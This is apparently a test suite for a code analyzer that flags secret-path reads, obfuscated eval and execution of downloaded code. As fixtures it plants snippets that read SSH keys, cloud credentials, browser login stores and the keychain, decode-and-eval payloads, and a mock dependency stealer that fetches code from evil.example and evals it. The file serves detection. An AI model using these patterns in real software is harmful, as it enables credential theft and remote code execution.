// The audit's evidence from the analyzer (issue 13 item 2): secret paths, obfuscation and
// eval of fetched code, in JavaScript, minified JavaScript and Python, each rule with a planted
// source and a harmless near-miss that must stay silent; random bytes never make it throw; a
// 50 MB minified line and a near-cap file full of the new patterns stay bounded.

import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyzeSources, type AnalysisInput } from '../lib/analysis/analyze.ts';
import type { AnalysisReport } from '../lib/analysis/model.ts';
import { secretOfPath } from '../lib/analysis/secrets.ts';
import { defaultPythonParser } from '../lib/suggest.ts';

function source(path: string, text: string | Uint8Array): AnalysisInput {
  const bytes = typeof text === 'string' ? Buffer.from(text) : text;
  return { path, size: bytes.length, read: async () => bytes };
}

async function analyze(files: Record<string, string | Uint8Array>, options: Parameters<typeof analyzeSources>[1] = {}): Promise<AnalysisReport> {
  return analyzeSources(Object.entries(files).map(([path, text]) => source(path, text)), { python: defaultPythonParser(), ...options });
}

const NEW_KINDS = new Set(['secret-path', 'obfuscation', 'eval-fetched']);

/** kind:detail@line of the new kinds, sorted. */
function evidence(report: AnalysisReport): string[] {
  return report.observations.filter((observation) => NEW_KINDS.has(observation.kind)).map((observation) => `${observation.kind}:${observation.detail}@${observation.evidence.line}`).sort();
}

interface Case {
  name: string;
  file: string;
  code: string;
  expect: string[];
}

const PLANTED: Case[] = [
  // secret-path
  { name: 'secret-path: ~/.ssh/id_rsa through path.join(os.homedir(), ...)', file: 'a.js', code: "const fs = require('fs'), os = require('os'), path = require('path');\nfs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));", expect: ['secret-path:ssh@2'] },
  { name: 'secret-path: AWS credentials, gcloud, Azure, kube, docker, npmrc, pypirc, netrc, gnupg as literals', file: 'a.mjs', code: "const a = '~/.aws/credentials';\nconst b = `${home}/.config/gcloud/application_default_credentials.json`;\nconst c = '~/.azure/accessTokens.json';\nconst d = '~/.kube/config';\nconst e = '~/.docker/config.json';\nconst f = '~/.npmrc';\nconst g = '~/.pypirc';\nconst h = '~/.netrc';\nconst i = '~/.gnupg/private-keys-v1.d';", expect: ['secret-path:aws@1', 'secret-path:gcloud@2', 'secret-path:azure@3', 'secret-path:kube@4', 'secret-path:docker@5', 'secret-path:npmrc@6', 'secret-path:pypirc@7', 'secret-path:netrc@8', 'secret-path:gnupg@9'] },
  { name: 'secret-path: browser profiles on Linux, macOS and Windows', file: 'a.js', code: "const l = '.config/google-chrome/Default/Cookies';\nconst m = 'Library/Application Support/Google/Chrome/Default/Login Data';\nconst w = 'C:\\\\Users\\\\x\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default';\nconst f = '.mozilla/firefox/abc.default/key4.db';\nconst b = 'Library/Application Support/BraveSoftware/Brave-Browser';", expect: ['secret-path:browser-profile@1', 'secret-path:browser-profile@2', 'secret-path:browser-profile@3', 'secret-path:browser-profile@4', 'secret-path:browser-profile@5'] },
  { name: 'secret-path: the macOS keychain folder and the security command', file: 'a.js', code: "const k = '~/Library/Keychains/login.keychain-db';\nrequire('child_process').execSync('security find-generic-password -s github -w');", expect: ['secret-path:keychain@1', 'secret-path:keychain@2'] },
  { name: 'secret-path: minified one-liner', file: 'dist/m.js', code: 'var a=require("fs"),b=require("os"),c=require("path");a.readFileSync(c.join(b.homedir(),".aws/credentials"));a.readdirSync(c.join(b.homedir(),".ssh"));', expect: ['secret-path:aws@1', 'secret-path:ssh@1'] },
  { name: 'secret-path: a template with the home directory in a hole', file: 'a.mjs', code: "import os from 'node:os';\nconst key = `${os.homedir()}/.ssh/id_rsa`;", expect: ['secret-path:ssh@2'] },
  // obfuscation
  { name: 'obfuscation: eval of atob, new Function of a base64 Buffer, eval of hex escapes and char codes', file: 'a.js', code: "eval(atob('Y29uc29sZS5sb2coMSk='));\nnew Function(Buffer.from('cmV0dXJuIDE=', 'base64').toString());\neval('\\x63\\x6f\\x6e\\x73\\x6f');\neval(String.fromCharCode(99, 111));", expect: ['obfuscation:eval of decoded text@1', 'obfuscation:Function of decoded text@2', 'obfuscation:eval of decoded text@3', 'obfuscation:eval of decoded text@4'] },
  { name: 'obfuscation: require and import() of names assembled from pieces', file: 'a.mjs', code: "const cp = require('chi' + 'ld_pro' + 'cess');\nconst fs = require(['f', 's'].join(''));\nconst n = 'o' + 's';\nawait import(n);\nrequire(`${'ht'}${'tps'}`);", expect: ['obfuscation:require of a computed name@1', 'obfuscation:require of a computed name@2', 'obfuscation:import() of a computed name@4', 'obfuscation:require of a computed name@5'] },
  { name: 'obfuscation: minified, the decoder aliased', file: 'dist/m.js', code: 'var d=atob,x="ZXZhbA==";eval(d(x));var r=require;', expect: ['obfuscation:eval of decoded text@1'] },
  // eval-fetched
  { name: 'eval-fetched: fetch, await text, eval in the same function', file: 'a.mjs', code: "async function load(u) {\n  const response = await fetch(u);\n  const code = await response.text();\n  eval(code);\n}", expect: ['eval-fetched:eval@4'] },
  { name: 'eval-fetched: callback style https.get with body chunks, and a promise chain into new Function', file: 'a.js', code: "const https = require('https');\nhttps.get(u, (res) => {\n  let body = '';\n  res.on('data', (chunk) => { body += chunk; });\n  res.on('end', () => eval(body));\n});\nfetch(u).then((r) => r.text()).then((t) => new Function(t)());", expect: ['eval-fetched:eval@5', 'eval-fetched:Function@7'] },
  { name: 'eval-fetched: axios data run by a shell, vm.runInThisContext of got', file: 'a.js', code: "const { exec } = require('child_process');\nconst vm = require('vm');\nconst axios = require('axios');\nconst got = require('got');\nasync function a() { const { data } = await axios.get(u); exec(data); }\nasync function b() { vm.runInThisContext(await got(u).text()); }", expect: ['eval-fetched:child_process.exec@5', 'eval-fetched:vm.runInThisContext@6'] },
  { name: 'eval-fetched: import() of a data: URL built from a response', file: 'a.mjs', code: "const res = await fetch(u);\nconst mod = await import('data:text/javascript,' + encodeURIComponent(await res.text()));", expect: ['eval-fetched:import()@2'] },
  { name: 'eval-fetched: minified download-and-run', file: 'dist/m.js', code: 'var a=require("https");a.get("https://x.example/p",function(b){var c="";b.on("data",function(d){c+=d}),b.on("end",function(){eval(c)})});', expect: ['eval-fetched:eval@1'] },
  // Python
  { name: 'Python secret-path: expanduser(~/.ssh), a join with .aws, Chrome under AppData', file: 'a.py', code: "import os\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\np = os.path.join(os.environ['HOME'], '.aws', 'credentials')\nc = 'AppData/Local/Google/Chrome/User Data/Default/Login Data'", expect: ['secret-path:ssh@2', 'secret-path:aws@3', 'secret-path:browser-profile@4'] },
  { name: 'Python secret-path: pathlib Path.home() / ".aws" / "credentials"', file: 'a.py', code: "from pathlib import Path\ncreds = (Path.home() / '.aws' / 'credentials').read_text()", expect: ['secret-path:aws@2'] },
  { name: 'Python obfuscation: exec of b64decode, zlib of b64, __import__ and import_module of computed names', file: 'a.py', code: "import base64, zlib, importlib\nexec(base64.b64decode('cHJpbnQoMSk='))\nexec(zlib.decompress(base64.b64decode(blob)).decode())\nos = __import__('o' + 's')\nsp = importlib.import_module(''.join(['sub', 'process']))\nexec(bytes.fromhex('7072696e74').decode())", expect: ['obfuscation:exec of decoded text@2', 'obfuscation:exec of decoded text@3', 'obfuscation:__import__ of a computed name@4', 'obfuscation:importlib.import_module of a computed name@5', 'obfuscation:exec of decoded text@6'] },
  { name: 'Python eval-fetched: requests, urlopen in a with block, httpx client, os.system of a response', file: 'a.py', code: "import os, requests, httpx\nfrom urllib.request import urlopen\ndef a(u):\n    r = requests.get(u)\n    exec(r.text)\ndef b(u):\n    with urlopen(u) as resp:\n        exec(resp.read())\nasync def c(u):\n    async with httpx.AsyncClient() as client:\n        r = await client.get(u)\n        exec(r.content)\nos.system(requests.get('https://x.example/cmd').text)", expect: ['eval-fetched:exec@5', 'eval-fetched:exec@8', 'eval-fetched:exec@12', 'eval-fetched:os.system@13'] },
];

/** Code that reads like the planted cases but must not trigger them. */
const HARMLESS: Case[] = [
  { name: 'secret-path stays silent for comments, messages, sentences and descriptions', file: 'a.js', code: "// reads ~/.ssh/id_rsa\nconsole.log('~/.ssh/id_rsa');\nthrow new Error('cannot read ~/.aws/credentials');\nconst d = 'Reads your .ssh folder and your AWS credentials';\nserver.tool('x', z.string().describe('~/.kube/config'));\nconst chrome = 'chrome';", expect: [] },
  { name: 'obfuscation stays silent for plain dynamic code: a plugin name, Function("return this"), eval of a constant, a Buffer copy', file: 'a.js', code: "function load(name) { return require(name); }\nconst g = Function('return this')();\neval('1 + 1');\nnew Function(Buffer.from(text).toString());\nimport(pluginPath);", expect: [] },
  { name: 'eval-fetched stays silent when the evaluated value is not from the network (even if a fetch is nearby)', file: 'a.mjs', code: "async function a(u) { const r = await fetch(u); const code = 'x'; eval(code); return r; }\nfunction b(code) { eval(code); }\nconst data = await fetch(u);\nfunction c() { const data = 'local'; eval(local); }", expect: [] },
  { name: 'Python stays silent for a docstring, a print, a raise, exec of a constant and of a local string, __import__ of a plain name', file: 'a.py', code: "import requests\ndef f(name):\n    '''Reads ~/.ssh/config for you.'''\n    print('~/.ssh/id_rsa')\n    raise ValueError('~/.aws/credentials')\ndef g(u):\n    r = requests.get(u)\n    code = 'print(1)'\n    exec(code)\n__import__(name)", expect: [] },
];

describe('evidence: secret paths, obfuscation and eval of fetched code (planted sources)', () => {
  for (const entry of [...PLANTED, ...HARMLESS]) {
    it(entry.name, async () => {
      const report = await analyze({ [entry.file]: entry.code });
      assert.deepEqual(report.unknowns, []);
      assert.deepEqual(evidence(report), [...entry.expect].sort());
    });
  }

  it('a secret-path observation says which secret and holds the path expression; evidence is bounded and escaped', async () => {
    const report = await analyze({ 'server/x.js': "const os = require('os'), path = require('path');\nconst key = path.join(os.homedir(), '.ssh', 'id_rsa'); // \u001b[31m" });
    const [observation] = report.observations.filter((entry) => entry.kind === 'secret-path');
    assert.deepEqual({ detail: observation?.detail, target: observation?.target, path: observation?.evidence.path, line: observation?.evidence.line }, { detail: 'ssh', target: { origin: 'home', text: '~/.ssh/id_rsa' }, path: 'server/x.js', line: 2 });
    assert.ok(!observation!.evidence.excerpt.includes('\u001b'));
  });

  it('dependencies are read too: a postinstall-style stealer in node_modules and in site-packages is reported with its package', async () => {
    const report = await analyze({
      'server/index.js': "require('left-padd');",
      'node_modules/left-padd/index.js': "const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nrequire('https').get('https://evil.example/x', (r) => { let s = ''; r.on('data', (c) => s += c); r.on('end', () => eval(s)); });",
      'lib/site-packages/evil/__init__.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    });
    const dependency = report.observations.filter((entry) => NEW_KINDS.has(entry.kind)).map((entry) => `${entry.origin}:${entry.package}:${entry.kind}`).sort();
    assert.deepEqual(dependency, ['dependency:evil:obfuscation', 'dependency:left-padd:eval-fetched', 'dependency:left-padd:secret-path']);
  });

  it('Python env reads: os.environ[...], os.getenv, os.environ.get, and the names imported from os', async () => {
    const report = await analyze({ 'a.py': "import os\nfrom os import environ, getenv\nos.environ['A']\nos.getenv('B')\nos.environ.get('C', 'x')\nenviron['D']\ngetenv('E')\nenviron.get('F')" });
    assert.deepEqual(report.observations.filter((entry) => entry.kind === 'env-read').map((entry) => entry.detail).sort(), ['A', 'B', 'C', 'D', 'E', 'F']);
  });

  it('secretOfPath: paths name a secret, sentences and look-alike folder names do not', () => {
    const table: Array<[string, string | undefined]> = [
      ['~/.ssh', 'ssh'], ['/home/u/.ssh/known_hosts', 'ssh'], ['id_ed25519', 'ssh'], ['.aws', 'aws'], ['%USERPROFILE%\\.aws\\credentials', 'aws'],
      ['~/.kube/config', 'kube'], ['.git-credentials', 'git-credentials'], ['AppData\\Roaming\\Microsoft\\Credentials', 'windows-credentials'],
      ['security find-internet-password -s x', 'keychain'], ['my.ssh.helper', undefined], ['aws-sdk', undefined], ['.awsome', undefined],
      ['read the ~/.ssh folder', undefined], ['docker/config.json', undefined], ['chrome', undefined], ['', undefined],
    ];
    for (const [text, expected] of table) assert.equal(secretOfPath(text), expected, text);
  });
});

describe('evidence: hostile input stays bounded', () => {
  it('property: random bytes and random mixes of the new patterns never make the analyzer throw', async () => {
    const pieces = ['eval(', 'atob(', "'.ssh'", 'require(', "'a'+'b'", 'fetch(u)', '.then(r=>', 'new Function(', ')', '(', '{', '}', ';', 'var a=', '`${', '}`', "'\\x41\\x42\\x43\\x44'", 'exec(', 'base64.b64decode(', '__import__(', '\n', '"', "'"];
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.uint8Array({ maxLength: 400 }), fc.array(fc.constantFrom(...pieces), { maxLength: 60 }).map((parts) => Buffer.from(parts.join('')))), async (bytes) => {
        const report = await analyzeSources([source('x.js', bytes), source('y.py', bytes)], { python: undefined });
        assert.ok(Array.isArray(report.observations));
      }),
      { numRuns: 300 },
    );
  });

  it('property: random Python sources, through the real python3 parser in one batch, are read or unknown, never a throw', async () => {
    const pieces = ['exec(', 'base64.b64decode(', '__import__(', "'o' + 's'", 'requests.get(u)', '.text', 'def f(u):\n    ', 'r = ', 'with urlopen(u) as r:\n    ', "'~/.ssh/id_rsa'", ')', '(', '\n', ' ', '[::-1]', "''.join([", '])', 'await ', 'os.system('];
    const samples = fc.sample(fc.oneof(fc.uint8Array({ maxLength: 200 }), fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((parts) => Buffer.from(parts.join('')))), { numRuns: 60, seed: 13 });
    const report = await analyzeSources(samples.map((bytes, index) => source(`p${index}.py`, bytes)), { python: defaultPythonParser() });
    const unknown = new Set(report.unknowns.map((entry) => entry.path));
    assert.equal(report.stats.analyzed + unknown.size, samples.length);
  });

  it('a 50 MB single-line minified file is not parsed (too-large) and does not hang', async () => {
    const line = 'var a=atob("eA==");eval(a);require("fs").readFileSync("~/.ssh/id_rsa");'.repeat(Math.ceil((50 * 1024 * 1024) / 72));
    const report = await analyze({ 'dist/huge.min.js': line, 'server.js': "eval(atob('eA=='));" });
    assert.deepEqual(report.unknowns.map((unknown) => `${unknown.path}:${unknown.reason}`), ['dist/huge.min.js:too-large']);
    assert.deepEqual(evidence(report), ['obfuscation:eval of decoded text@1']);
  });

  it('a file just under the per-file cap, one line full of evals, decoders and secret paths, keeps the per-file observation cap and ends in bounded time', async () => {
    const chunk = 'function f(u){var r=fetch(u).then(function(x){return x.text()});eval(r);eval(atob("eA=="));var p=".ssh/id_rsa";require("a"+"b")}';
    const text = chunk.repeat(Math.floor((3.5 * 1024 * 1024) / chunk.length));
    const report = await analyze({ 'dist/near-cap.min.js': text });
    assert.ok(report.observations.length <= 5000);
    assert.deepEqual(report.unknowns.map((unknown) => unknown.reason), ['truncated']);
  });
});
